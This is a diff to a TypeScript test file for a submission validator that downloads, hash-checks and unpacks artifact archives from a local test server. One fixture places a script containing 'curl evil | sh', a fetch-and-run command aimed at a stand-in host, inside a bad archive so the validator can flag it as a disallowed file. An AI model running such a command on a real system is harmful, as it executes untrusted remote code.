@@ -6,10 +6,23 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { testdir } from '../../../test/support/testdir.ts';
 import { checkArchiveUrl, createHttpArchiveFetcher } from './fetch-archive.ts';
 import { validateSubmission } from './validate-submission.ts';
-import { manifest, sha, SUITE } from './validate-fixtures.testkit.ts';
+import { packTar, packTarGz } from '../archive/write-tar.ts';
+import { CLAUDE_LOG, DECK, manifest, sha, SUITE } from './validate-fixtures.testkit.ts';
 
 // A local HTTP server standing in for the archive host: network is off in tests, loopback is not.
 const ARCHIVE = Buffer.alloc(200_000, 7);
+// A real artifact set as .tar.gz, and one with problems inside (wrong type, unknown task).
+const GOOD_TGZ = packTarGz([
+  { path: 'artifacts/t-a/output.pptx', data: DECK },
+  { path: 'artifacts/t-a/output.py', data: Buffer.from('from pptx import Presentation\n') },
+  { path: 'artifacts/t-a/output.jsonl', data: Buffer.from(CLAUDE_LOG) },
+  { path: 'artifacts/t-b/error.log', data: Buffer.from('timed out\n') },
+]);
+const BAD_TAR = packTar([
+  { path: 'artifacts/t-a/output.pptx', data: DECK },
+  { path: 'artifacts/t-a/run.sh', data: Buffer.from('curl evil | sh\n') },
+  { path: 'artifacts/zz-unknown/output.pptx', data: DECK },
+]);
 let server: http.Server;
 let base: string;
 const hits: string[] = [];
@@ -21,6 +34,14 @@ beforeAll(async () => {
       case '/archive.tar.gz':
         res.writeHead(200, { 'content-length': ARCHIVE.length });
         res.end(ARCHIVE);
+        return;
+      case '/artifacts.tar.gz':
+        res.writeHead(200, { 'content-length': GOOD_TGZ.length });
+        res.end(GOOD_TGZ);
+        return;
+      case '/bad.tar':
+        res.writeHead(200, { 'content-length': BAD_TAR.length });
+        res.end(BAD_TAR);
         return;
       case '/moved':
         res.writeHead(302, { location: '/archive.tar.gz' });
@@ -132,9 +153,9 @@ describe('validateSubmission with archive: {url, sha256}', () => {
   }
 
   it('verifies the archive hash and needs no SHA256SUMS', async () => {
-    const r = await validateWith(`${base}/archive.tar.gz`, sha(ARCHIVE));
+    const r = await validateWith(`${base}/artifacts.tar.gz`, sha(GOOD_TGZ));
     expect(r.errors).toEqual([]);
-    expect(r.value?.archive).toMatchObject({ bytes: ARCHIVE.length, sha256: sha(ARCHIVE) });
+    expect(r.value?.archive).toMatchObject({ bytes: GOOD_TGZ.length, sha256: sha(GOOD_TGZ) });
   });
 
   it('reports a hash mismatch and a failed download as errors on submission.yml', async () => {
@@ -142,5 +163,23 @@ describe('validateSubmission with archive: {url, sha256}', () => {
     expect(wrong.errors.map((p) => [p.file, p.rule, p.got])).toEqual([['submissions/archived/submission.yml', 'archive-hash-mismatch', sha(ARCHIVE)]]);
     const gone = await validateWith(`${base}/missing`, sha(ARCHIVE));
     expect(gone.errors.map((p) => [p.rule, p.got])).toEqual([['archive-fetch-failed', 'HTTP 404']]);
+  });
+
+  it('unpacks the verified archive safely and checks its content like inline artifacts', async () => {
+    const r = await validateWith(`${base}/artifacts.tar.gz`, sha(GOOD_TGZ));
+    expect(r.errors).toEqual([]);
+    expect(r.inventory).toEqual({ tasks: ['t-a', 't-b'], missing: ['t-c'], logs: ['artifacts/t-a/output.jsonl'] });
+    expect(r.warnings.map((p) => `${p.file} [${p.rule}]`)).toEqual(['submissions/archived/<archive>/artifacts [missing-tasks]']);
+    expect(r.value?.archive?.extractedDir).toMatch(/\.archive\.d$/);
+  });
+
+  it('reports problems inside the archive with the archive named in the path', async () => {
+    const r = await validateWith(`${base}/bad.tar`, sha(BAD_TAR));
+    expect(r.errors.map((p) => `${p.file} [${p.rule}]`)).toEqual([
+      'submissions/archived/<archive>/artifacts/t-a/run.sh [disallowed-file]',
+      'submissions/archived/<archive>/artifacts/zz-unknown [unknown-task]',
+    ]);
+    const notTar = await validateWith(`${base}/archive.tar.gz`, sha(ARCHIVE));
+    expect(notTar.errors.map((p) => p.rule)).toEqual(['archive-format']);
   });
 });
